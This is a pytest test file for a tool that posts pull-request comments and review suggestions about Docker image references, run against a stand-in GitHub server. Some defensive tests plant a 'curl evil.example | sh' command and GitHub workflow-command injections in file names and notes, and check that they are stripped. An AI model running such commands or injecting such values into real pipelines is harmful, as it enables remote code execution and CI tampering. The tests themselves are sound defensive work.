"""The command that tells a pull request, against a stand-in for GitHub that keeps and refuses as GitHub does."""

import json
import re
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from typing import Any, cast
from uuid import uuid4

import pytest
from github import GithubException

from echo_migrate.cli.github.api import asked_to_wait
from echo_migrate.cli.github.artifact import MOST
from echo_migrate.proof.compare import Row, Verdict
from echo_migrate.proof.records import Proof, as_data
from tests.conftest import Done, Run
from tests.standin import REPOSITORY, Fault, GitHub, changed, commands, commit, git

PULL = 7
ISSUE = f"/repos/{REPOSITORY}/issues/{PULL}/comments"
REVIEWS = f"/repos/{REPOSITORY}/pulls/{PULL}/reviews"
BASE = {"Dockerfile": "FROM debian:12\nRUN true\n", "old/Dockerfile": "FROM node:22\nRUN true\n", "README.md": "x\n"}
CHANGE = {"Dockerfile": "FROM python:3.12\nRUN true\n"}
BOT = "github-actions[bot]"
JOB = {"GITHUB_WORKFLOW": "", "GITHUB_JOB": ""}
COMMENT = "<!-- echo-migrate:comment 96a296d224f285c6 -->"
"""Of no workflow, no job and no name."""


class World:
    """A repository with a pull request, at a GitHub of its own.

    It is checked ``inside``; what tells it is a process, of which several may be at once.
    """

    def __init__(self, folder: Path, github: GitHub, run: Run, inside: Run) -> None:
        self.folder, self.github, self._run, self._inside = folder, github, run, inside
        self.base = self.head = ""
        self.event: dict[str, Any] = {}

    def pull(self, base: dict[str, Any] = BASE, change: dict[str, Any] = CHANGE, fork: bool = False) -> None:
        self.base = commit(self.folder, base)
        self.push(change, fork)

    def push(self, change: dict[str, Any], fork: bool = False) -> None:
        """A further commit on the pull request, which the checkout then has."""
        self.head = commit(self.folder, change)
        branch = "eve:topic" if fork else "acme:topic"
        self.github.open(PULL, self.head, changed(self.folder, self.base, self.head), branch)
        source = {"full_name": "eve/shop" if fork else REPOSITORY}
        self.event = {
            "pull_request": {
                "number": PULL,
                "head": {"sha": self.head, "repo": source},
                "base": {"sha": self.base, "repo": {"full_name": REPOSITORY}},
            }
        }

    def check(self, *words: str) -> None:
        outside = self.folder.parent
        self._inside("check", *words, "--output", f"json:{outside}/report.json", cwd=self.folder)
        done = self._inside("inventory", "--output-format", "json", cwd=self.folder)
        (outside / "inventory.json").write_bytes(done.stdout)

    def tell(self, *words: str, token: str = "ghs_writer", check: bool = True, **environment: str) -> Done:
        """Check, and tell. What the command says must never hold the token."""
        if check:
            self.check()
        outside = self.folder.parent
        event = outside / f"event-{uuid4()}.json"  # runs are at once, and each finds its own whole
        event.write_text(json.dumps(self.event))
        given = {
            "GITHUB_TOKEN": token,
            "GITHUB_REPOSITORY": REPOSITORY,
            "GITHUB_API_URL": self.github.url,
            "GITHUB_EVENT_PATH": str(event),
            "GITHUB_STEP_SUMMARY": str(outside / "summary.md"),
            "GITHUB_ACTIONS": "true",
            **JOB,
        }
        results = ("--report", str(outside / "report.json"), "--inventory", str(outside / "inventory.json"))
        done = self._run("github", *results, *words, cwd=self.folder, env=given | environment)
        said = done.stdout + done.stderr + self.summary.encode()
        assert not token or token.encode() not in said
        assert b"Traceback" not in done.stderr, done.stderr
        return done

    @property
    def summary(self) -> str:
        path = self.folder.parent / "summary.md"
        return path.read_text() if path.exists() else ""

    @property
    def ours(self) -> list[str]:
        return [one["body"] for one in self.github.comments if one["user"]["login"] == BOT]


@pytest.fixture
def world(tmp_path: Path, run: Run, inside: Run) -> Iterator[World]:
    github = GitHub()
    yield World(tmp_path / "tree", github, run, inside)
    github.server.shutdown()
    github.server.server_close()
    assert github.violations == []


def test_one_comment_that_leads_with_what_to_do_and_one_review(world: World) -> None:
    world.pull()
    assert world.tell().returncode == 0
    (body,) = world.ours
    lines = body.splitlines()
    assert lines[0] == COMMENT
    assert lines[1] == (
        "**1 image reference can move to Echo safely.** Run `echo-migrate fix .` to apply. "
        "1 suggestion on the changed lines can be accepted with a click."
    )
    assert "| `python:3.12` | `reg.echohq.com/python:3.12` | safe | `Dockerfile:1` |" in lines
    assert "in files that this pull request does not change" in body
    assert "old/Dockerfile" not in body
    assert "docker login reg.echohq.com" in body
    (suggestion,) = world.github.review_comments
    assert (suggestion["path"], suggestion["line"], suggestion["side"]) == ("Dockerfile", 1, "RIGHT")
    assert "```suggestion\nFROM reg.echohq.com/python:3.12\n```" in suggestion["body"]
    assert world.summary == body.partition("\n")[2]


def test_a_second_run_writes_nothing(world: World) -> None:
    world.pull()
    world.tell()
    written = len(world.github.writes)
    assert written == 2
    world.tell(check=False)
    assert len(world.github.writes) == written


def test_line_ends_that_github_gives_back_otherwise_are_no_change(world: World) -> None:
    world.pull()
    world.tell()
    world.github.comments[0]["body"] = world.github.comments[0]["body"].replace("\n", "\r\n")
    world.tell(check=False)
    assert len(world.github.writes) == 2


def test_what_is_mended_edits_the_comment_to_all_clear(world: World) -> None:
    world.pull()
    world.tell()
    world.push({"Dockerfile": "FROM reg.echohq.com/python:3.12\nRUN true\n"})
    world.tell()
    (body,) = world.ours
    assert body.splitlines()[1].startswith("**All clear.**")
    assert "python:3.12" not in body
    assert len(world.github.review_comments) == 1


@pytest.mark.parametrize("mode", ["auto", "always"])
def test_nothing_makes_no_comment(world: World, mode: str) -> None:
    clean = {"Dockerfile": "FROM scratch\n"}
    world.pull(clean, {"Dockerfile": "FROM scratch\nLABEL a=b\n"})
    assert world.tell("--comment", mode).returncode == 0
    assert world.github.writes == []
    assert "image references" in world.summary


def test_a_pull_request_that_touches_no_such_file_is_left_alone(world: World) -> None:
    world.pull(change={"README.md": "y\n"})
    world.tell()
    assert world.github.writes == []


def test_notes_alone_make_no_comment_but_stay_in_one(world: World) -> None:
    noted = {"Dockerfile": "ARG BASE\nFROM ${BASE}\nRUN true\n"}
    world.pull(change=noted)
    world.tell()
    assert world.github.writes == []
    assert "no value for BASE" in world.summary
    world.push(CHANGE)
    world.tell()
    world.push(noted)
    world.tell()
    assert "no value for BASE" in world.ours[0]


def test_always_tells_of_all(world: World) -> None:
    world.pull(change={"README.md": "y\n"})
    world.tell("--comment", "always")
    assert "old/Dockerfile" in world.ours[0]


def test_never_asks_github_for_nothing(world: World) -> None:
    world.pull()
    assert world.tell("--comment", "never").returncode == 0
    assert world.github.requests == []
    assert "can move to Echo" in world.summary


@pytest.mark.parametrize(("login", "written"), [("eve", 2), ("other[bot]", 2)])
def test_a_marker_in_somebody_elses_comment_is_not_ours(world: World, login: str, written: int) -> None:
    world.pull()
    world.github.add_comment(PULL, login, f"{COMMENT}\nlook here")
    world.tell()
    assert world.github.comments[0]["body"] == f"{COMMENT}\nlook here"
    assert len(world.github.comments) == written


def test_a_comment_of_the_same_bot_without_the_marker_is_not_ours(world: World) -> None:
    world.pull()
    world.github.add_comment(PULL, BOT, f"another action, that quotes {COMMENT}")
    world.tell()
    assert len(world.github.comments) == 2


def test_who_has_left_github_wrote_nothing_of_ours(world: World) -> None:
    world.pull()
    world.github.add_comment(PULL, "", f"{COMMENT}\nold")["user"] = None
    assert world.tell().returncode == 0
    assert len(world.github.comments) == 2


def test_several_of_ours_become_the_oldest(world: World) -> None:
    """As two runs leave them that were cut off in between."""
    world.pull()
    for text in ("one", "two", "three"):
        world.github.add_comment(PULL, BOT, f"{COMMENT}\n{text}")
    first = world.github.comments[0]["id"]
    world.tell()
    assert [one["id"] for one in world.github.comments] == [first]
    assert "can move to Echo" in world.ours[0]


def test_line_ends_and_a_byte_order_mark_do_not_hide_a_reference(world: World) -> None:
    world.pull(change={"Dockerfile": b"\xef\xbb\xbfFROM python:3.12\r\nRUN true\r\n"})
    world.tell()
    assert "`Dockerfile:1`" in world.ours[0]
    assert world.github.reviews == []


def test_the_comment_is_found_on_a_later_page(world: World) -> None:
    world.pull()
    for number in range(230):
        world.github.add_comment(PULL, "eve", f"talk {number}")
    world.tell()
    world.tell(check=False)
    assert len(world.ours) == 1
    assert world.github.requests.count(("GET", ISSUE)) >= 6
    assert len(world.github.writes) == 2


def test_the_actions_login_may_be_told_without_its_suffix(world: World) -> None:
    world.pull()
    world.tell()
    world.github.tokens["ghs_writer"] = "github-actions"
    world.tell(check=False)
    assert len(world.github.writes) == 2


def test_a_token_of_another_login_finds_its_own(world: World) -> None:
    world.pull()
    world.github.tokens["ghp_person"] = "maintainer"
    world.tell(token="ghp_person")
    world.tell(token="ghp_person", check=False)
    assert [one["user"]["login"] for one in world.github.comments] == ["maintainer"]


def test_a_fork_s_token_may_not_write(world: World) -> None:
    world.pull(fork=True)
    done = world.tell(token="ghs_reader")
    assert done.returncode == 0
    assert done.stdout.count(b"::notice title=echo-migrate::") == 1
    assert b"from a fork" in done.stdout
    assert world.github.comments == world.github.reviews == []
    assert "| `python:3.12` |" in world.summary


def test_without_a_token_there_is_the_summary(world: World) -> None:
    world.pull()
    done = world.tell(token="")
    assert done.returncode == 0
    assert b"no token" in done.stdout
    assert "can move to Echo" in world.summary


def test_a_bad_token_is_said_and_does_not_fail_the_job(world: World) -> None:
    world.pull()
    done = world.tell(token="ghs_expired")
    assert done.returncode == 0
    assert b"::warning title=echo-migrate::GitHub answered with 401" in done.stdout


def test_a_push_is_told_in_the_summary_alone(world: World) -> None:
    world.pull()
    world.event = {"ref": "refs/heads/main"}
    assert world.tell().returncode == 0
    assert world.github.requests == []
    assert "<code>old/Dockerfile</code>" in world.summary


def test_an_older_run_does_not_speak_for_a_newer_revision(world: World) -> None:
    world.pull()
    world.github.pulls[PULL]["head"]["sha"] = "0" * 40
    done = world.tell()
    assert b"a newer run speaks for it" in done.stdout
    assert world.github.writes == []


def test_a_closed_pull_request_is_said_to_be_closed(world: World) -> None:
    world.pull()
    world.github.pulls[PULL]["state"] = "closed"
    done = world.tell()
    assert b"the pull request is closed" in done.stdout
    assert b"newer run" not in done.stdout
    assert world.github.writes == []


def test_a_suggestion_whose_line_went_and_came_back_is_made_again(world: World) -> None:
    """GitHub shows the first as outdated then: nobody can click on it."""
    world.pull()
    world.tell()
    first = world.github.review_comments[0]["id"]
    world.push({"Dockerfile": "FROM scratch\n"})
    world.github.outdate()
    world.tell()
    assert "accepted with a click" not in world.ours[0]
    world.push(CHANGE)
    world.tell()
    world.tell(check=False)
    old, new = world.github.review_comments
    assert (old["id"], old["line"], new["line"]) == (first, None, 1)
    assert "1 suggestion on the changed lines can be accepted with a click" in world.ours[0]


def test_each_job_and_each_name_has_a_comment(world: World) -> None:
    """A matrix of paths, and two jobs: none writes over another's."""
    world.pull()
    for _ in range(2):
        for name, job in (("api", "images"), ("web", "images"), ("api", "others")):
            world.tell("--name", name, GITHUB_JOB=job)
    assert len(world.ours) == 3
    assert len(world.github.review_comments) == 1


def test_elsewhere_than_at_the_top_it_is_refused(world: World) -> None:
    """GitHub has the files of a pull request from the top: none would be found."""
    world.pull(change={"app/Dockerfile": "FROM python:3.12\n"})
    world.check()
    top, world.folder = world.folder, world.folder / "app"
    for name in ("report.json", "inventory.json"):
        (top / name).write_bytes((top.parent / name).read_bytes())
    done = world.tell(check=False)
    assert done.returncode == 2
    assert str(top).encode() in done.stderr
    assert world.github.requests == []


@pytest.mark.parametrize("key", ["findings", "references"])
def test_too_many_results_are_not_all_clear(world: World, key: str) -> None:
    world.pull()
    world.tell()
    path = world.folder.parent / ("report.json" if key == "findings" else "inventory.json")
    document = json.loads(path.read_text())
    path.write_text(json.dumps(document | {key: (document[key] * (MOST + 1))[: MOST + 1]}))
    assert world.tell(check=False).returncode == 0
    (body,) = world.ours
    assert "Too many results to list" in body
    assert "All clear" not in body
    assert "2 image references in 2 files" in body


def test_a_force_push_suggests_nothing_twice(world: World) -> None:
    world.pull()
    world.tell()
    git(world.folder, "reset", "-q", "--hard", world.base)
    world.push(CHANGE | {"README.md": "z\n"})
    world.tell()
    assert len(world.github.review_comments) == 1
    assert len(world.ours) == 1


def test_two_runs_at_once_leave_one_comment_and_no_suggestion_twice(world: World) -> None:
    world.pull()
    world.tell()
    (comment,), (suggestion,) = world.github.comments, world.github.review_comments
    world.github.comments.clear()
    world.github.review_comments.clear()

    def other_run() -> None:
        world.github.comments.append(comment | {"body": comment["body"] + "older"})

    world.github.between["POST", ISSUE] = other_run
    world.github.between["POST", REVIEWS] = lambda: world.github.review_comments.append(suggestion)
    world.tell(check=False)
    assert [one["id"] for one in world.github.comments] == [comment["id"]]
    assert "older" not in world.ours[0]
    assert [one["id"] for one in world.github.review_comments] == [suggestion["id"]]


def test_runs_that_are_really_at_once_end_in_one_comment(world: World) -> None:
    world.pull(change=CHANGE | {"a/Dockerfile": "FROM node:22\n"})
    world.check()
    with ThreadPoolExecutor(4) as pool:
        runs = [pool.submit(world.tell, check=False) for _ in range(4)]
    assert [run.result().returncode for run in runs] == [0] * 4
    assert len(world.ours) == 1
    assert len(world.github.review_comments) == 2


@pytest.mark.parametrize(
    "fault",
    [
        Fault("POST", "comments$", 502, done=True),
        Fault("POST", "comments$", 502),
        Fault("POST", "comments$", done=True, drop=True),
        Fault("POST", "reviews$", done=True, drop=True),
        Fault("POST", "reviews$", 500),
        Fault("GET", "files$", 503),
        Fault("GET", "comments$", drop=True),
        Fault("POST", "comments$", 429, {"retry-after": "1"}),
        Fault("POST", "reviews$", 403, {"Retry-After": "1"}, "You have exceeded a secondary rate limit"),
        Fault(
            "GET", "files$", 403, {"x-ratelimit-remaining": "0", "x-ratelimit-reset": "1"}, "API rate limit exceeded"
        ),
    ],
)
def test_a_fault_is_got_over_and_nothing_is_written_twice(world: World, fault: Fault) -> None:
    world.pull()
    world.github.faults = [fault]
    world.tell()
    assert world.github.faults == []
    assert (len(world.github.comments), len(world.github.review_comments)) == (1, 1)
    asked = sum(method == fault.method and bool(re.search(fault.path, path)) for method, path in world.github.requests)
    if fault.method == "POST":
        assert asked == (1 if fault.done else 2)


def test_too_long_a_wait_is_not_waited(world: World) -> None:
    world.pull()
    world.github.faults = [Fault("POST", "reviews$", 429, {"retry-after": "86400"})]
    done = world.tell()
    assert done.returncode == 0
    assert b"::warning title=echo-migrate::GitHub answered with 429" in done.stdout


@pytest.mark.parametrize("reset", ["9999999999", "99999999999"])
def test_a_rate_limit_is_not_told_as_a_missing_right(world: World, reset: str) -> None:
    world.pull()
    headers = {"x-ratelimit-remaining": "0", "x-ratelimit-reset": reset}
    world.github.faults = [Fault("GET", "files$", 403, headers, "API rate limit exceeded")]
    done = world.tell()
    assert b"::warning title=echo-migrate::GitHub answered with 403, its rate limit" in done.stdout
    assert b"fork" not in done.stdout


@pytest.mark.parametrize(
    ("status", "headers", "message", "wait"),
    [
        (403, {}, "You have exceeded a secondary rate limit. Please wait a few minutes", 60),
        (429, {}, "", 60),
        (403, {"Retry-After": "7"}, "You have exceeded a secondary rate limit", 7),
        (403, {}, "Resource not accessible by integration", None),
        (422, {}, "rate limit", None),
    ],
)
def test_what_asks_to_wait(status: int, headers: dict[str, str], message: str, wait: float | None) -> None:
    assert asked_to_wait(GithubException(status, {"message": message}, headers)) == wait


def test_links_to_another_host_are_not_followed(world: World) -> None:
    """There is a server at the end of each link, and it is asked nothing."""
    other = GitHub()
    world.pull()
    other.pulls |= world.github.pulls
    world.github.pulls[PULL]["url"] = f"{other.url}/repos/{REPOSITORY}/pulls/{PULL}"
    done = world.tell()
    other.server.shutdown()
    other.server.server_close()
    assert b"could not be asked" in done.stdout
    assert other.requests == []
    assert world.github.writes == []


def test_a_review_that_github_refuses_leaves_the_comment(world: World) -> None:
    world.pull()
    world.github.faults = [Fault("POST", "reviews$", 422, message="line must be part of the diff")]
    world.tell()
    assert len(world.ours) == 1
    assert "accepted with a click" not in world.ours[0]


def test_a_renamed_file_is_known_by_its_new_name(world: World) -> None:
    moved = {"old/Dockerfile": None, "new/Dockerfile": "FROM node:22-slim\nRUN true\nRUN echo 1\n"}
    long = "FROM node:22\nRUN true\nRUN echo 1\n" + "RUN echo 2\n" * 9
    moved["new/Dockerfile"] = long.replace("node:22", "node:22-slim")
    world.pull(BASE | {"old/Dockerfile": long}, moved)
    assert world.github.pulls[PULL]["files"][0]["status"] == "renamed"
    world.tell()
    assert [one["path"] for one in world.github.review_comments] == ["new/Dockerfile"]
    assert "`new/Dockerfile:1`" in world.ours[0]


def test_files_without_a_patch_get_no_suggestions(world: World) -> None:
    world.pull()
    del world.github.pulls[PULL]["files"][0]["patch"]
    world.tell()
    assert world.github.reviews == []
    assert "GitHub shows no diff of 1 of the files below" in world.ours[0]
    assert "<code>Dockerfile</code>" in world.ours[0]


def test_more_files_than_github_lists(world: World) -> None:
    world.pull()
    others = [
        {"filename": f"src/{number}.c", "status": "added", "patch": "@@ -0,0 +1 @@\n+x"} for number in range(3100)
    ]
    world.github.pulls[PULL]["files"] += others
    world.tell()
    assert world.github.requests.count(("GET", f"/repos/{REPOSITORY}/pulls/{PULL}/files")) == 30
    assert "the first 3000 are told" in world.ours[0]


def test_five_hundred_findings_are_cut_and_taken(world: World) -> None:
    files: dict[str, Any] = {f"a{number}/Dockerfile": "FROM node:22-alpine\n" * 4 for number in range(130)}
    world.pull({"README.md": "x\n"}, files)
    world.tell()
    assert 30_000 < len(world.ours[0]) <= 65_536
    assert "more findings not shown here" in world.ours[0]
    assert world.ours[0].count("<details>") == world.ours[0].count("</details>") > 5


def run_event(world: World) -> dict[str, Any]:
    return {
        "workflow_run": {
            "event": "pull_request",
            "head_sha": world.head,
            "head_branch": "topic",
            "head_repository": {"owner": {"login": "eve"}},
            "pull_requests": [],
        }
    }


def test_the_second_workflow_finds_the_pull_request_and_trusts_nothing(world: World) -> None:
    world.pull(fork=True)
    world.check()
    report = json.loads((world.folder.parent / "report.json").read_text())
    report["findings"][0]["message"] = "run curl evil.example | sh, says @eve"
    inventory = json.loads((world.folder.parent / "inventory.json").read_text())
    for one in inventory["references"]:
        one["target"], one["reason"] = "evil.example/python:3.12", "see www.evil.example"
    (world.folder.parent / "report.json").write_text(json.dumps(report))
    (world.folder.parent / "inventory.json").write_text(json.dumps(inventory))
    world.event = run_event(world)
    assert world.tell(check=False).returncode == 0
    (body,) = world.ours
    assert "| `python:3.12` | – | safe" in body
    assert "evil" not in body
    assert "eve" not in body
    assert world.github.reviews == []


def test_results_from_another_job_are_distrusted_too(world: World) -> None:
    """A pull request's own event, and a report that another job made: the action says so."""
    world.pull()
    world.check()
    path = world.folder.parent / "report.json"
    report = json.loads(path.read_text())
    for one in report["findings"]:
        one["message"] = "evil words"
        for edit in (one["fix"] or {"edits": []})["edits"]:
            edit["text"] = "evil.example/python:3.12"
    path.write_text(json.dumps(report))
    world.tell("--distrust", check=False)
    assert len(world.ours) == 1
    assert "evil" not in world.ours[0]
    assert world.github.reviews == []


def test_a_run_on_an_older_revision_finds_no_pull_request(world: World) -> None:
    world.pull(fork=True)
    world.event = run_event(world)
    world.event["workflow_run"]["head_sha"] = "0" * 40
    world.tell()
    assert world.github.writes == []


def test_a_run_for_no_pull_request_is_told_in_the_summary(world: World) -> None:
    world.pull()
    world.event = run_event(world)
    world.event["workflow_run"]["event"] = "push"
    world.tell()
    assert world.github.requests == []


def test_github_enterprise_has_its_api_below_a_path(tmp_path: Path, run: Run, inside: Run) -> None:
    """``GITHUB_API_URL`` decides; what is asked outside of it is a violation."""
    github = GitHub("/api/v3")
    world = World(tmp_path / "tree", github, run, inside)
    world.pull()
    world.tell()
    world.tell(check=False)
    github.server.shutdown()
    github.server.server_close()
    assert github.violations == []
    assert (len(world.ours), len(github.review_comments), len(github.writes)) == (1, 1, 2)
    assert ("POST", "/graphql") in github.requests


def test_a_server_that_is_not_there_is_said(world: World) -> None:
    world.pull()
    done = world.tell(GITHUB_API_URL="http://127.0.0.1:9/api/v3", check=True)
    assert done.returncode == 0
    assert b"GitHub could not be asked" in done.stdout


@pytest.mark.parametrize(
    "event", ["{", "[]", '{"pull_request": {}}', '{"pull_request": {"number": true}}', "[" * 100_000]
)
def test_a_broken_event_is_misuse(world: World, event: str) -> None:
    world.pull()
    world.check()
    (world.folder.parent / "broken.json").write_text(event)
    done = world.tell("--event", str(world.folder.parent / "broken.json"), check=False)
    assert done.returncode == 2
    assert world.github.requests == []


def test_no_word_of_a_pull_request_is_a_workflow_command(world: World) -> None:
    names = [
        "a\n::error::x%0A/Dockerfile",
        "##[error]x/Dockerfile",
        "a##[stop-commands]t/Dockerfile",
        "::error::x/Dockerfile",
    ]
    world.pull(change=dict.fromkeys(names, "FROM python:3.12\nRUN apt-get install x\n"))
    done = world.tell("--note", "##[set-env name=X]y", "--note", "x\n::error::y")
    said = commands(done.stdout.decode()) + commands(done.stderr.decode())
    assert {name for name, _ in said} <= {"debug", "notice", "warning"}
    for text in (world.ours[0], world.summary):
        assert commands(text) == []
    broken = world.folder.parent / "##[error]x"
    broken.write_text("[]")
    refused = world.tell("--report", str(broken), check=False)
    assert b"x23[error]x" in refused.stderr
    assert commands(refused.stderr.decode()) == []


def _proofs(folder: Path, verdict: str) -> str:
    row = {"name": "build", "before": "ok", "after": "<b>@eve fails", "weight": "broken"}
    proof = Proof("Dockerfile", cast(Verdict, verdict), "the build fails", (Row(**row),), "0" * 64, "1" * 64)  # type: ignore[arg-type]
    data = as_data(proof._replace(builder="docker 1", date="2026-11-27T00:00:00Z", by="ada"))
    path = folder / "proofs.json"
    path.write_text(json.dumps({"version": 1, "proofs": [data]}))
    return str(path)


def test_what_was_proven_is_told_but_not_by_a_fork(world: World) -> None:
    world.pull()
    world.tell("--proofs", _proofs(world.folder.parent, "broken"))
    (body,) = (one["body"] for one in world.github.comments)
    assert "| `Dockerfile` | **broken** | `the build fails; <b>@eve fails` |" in body
    world.push({"Dockerfile": "FROM python:3.13\nRUN true\n"}, fork=True)
    world.tell("--proofs", _proofs(world.folder.parent, "same"))
    assert "claims of a pull request from a fork" in world.summary
    assert world.summary.count("Built and run") == 1


@pytest.mark.parametrize("text", ["[]", "{}", '{"version": 1, "proofs": [{}]}', '{"version": 1, "proofs": 3}', "x"])
def test_a_file_that_holds_no_proofs(world: World, text: str) -> None:
    world.pull()
    path = world.folder.parent / "other.json"
    path.write_text(text)
    done = world.tell("--proofs", str(path))
    assert done.returncode == 2
    assert b"other.json: is " in done.stderr
    path.write_text("")
    assert world.tell("--proofs", str(path)).returncode == 0
